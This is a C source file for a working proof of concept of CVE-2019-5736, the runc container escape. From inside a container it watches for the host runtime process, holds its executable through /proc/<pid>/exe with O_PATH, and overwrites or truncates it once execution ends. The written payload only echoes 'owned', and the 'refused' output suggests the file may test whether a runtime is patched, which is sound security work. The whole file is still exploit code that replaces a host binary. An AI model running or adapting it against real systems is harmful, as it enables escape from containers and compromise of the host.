// CVE-2019-5736: waits for the program of a runtime that comes into this pid namespace, holds it by O_PATH, and writes to it as soon
// as it is not being executed any more.
// Arguments: the pid to wait for, or 0 for the next that comes.
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char OWNED[] = "#!/bin/sh\necho owned\n";

/** An executable of the host, or one in memory. */
static int is_foreign(const char *link) {
  return strstr(link, "memfd") != NULL || strstr(link, "rcx") != NULL;
}

static void overwrite(int held) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  const struct timespec moment = {.tv_nsec = 1000000};
  int reason = 0;
  // ETXTBSY while it is being executed.
  for (int i = 0; i < 1500; i++, nanosleep(&moment, NULL)) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd >= 0) {
      if (write(fd, OWNED, sizeof OWNED - 1) > 0) {
        printf("wrote\n");
        return;
      }
      reason = errno;
      if (ftruncate(fd, 0) == 0) printf("wrote\n");
      close(fd);
      break;
    }
    reason = errno;
  }
  printf("refused: %s\n", strerror(reason));
}

/** The last that was given out in this pid namespace (proc_loadavg(5)). */
static int newest_pid(void) {
  static int fd = -1;
  if (fd < 0) fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
  char text[128];
  ssize_t length = pread(fd, text, sizeof text - 1, 0);
  text[length < 0 ? 0 : length] = 0;
  const char *last = strrchr(text, ' ');
  return last == NULL ? 0 : atoi(last);
}

static int take(int pid) {
  char path[64], link[512];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t length = readlink(path, link, sizeof link - 1);
  if (length < 0) return 0;
  link[length] = 0;
  if (!is_foreign(link)) return 0;
  int held = open(path, O_PATH | O_CLOEXEC);
  if (held < 0) return 0;
  printf("got %s\n", link);
  overwrite(held);
  return 1;
}

int main(int count, char **arguments) {
  int wanted = count > 1 ? atoi(arguments[1]) : 0;
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ready\n");
  while (!take(wanted != 0 ? wanted : newest_pid())) {}
  printf("done\n");
  for (;;) pause();
}
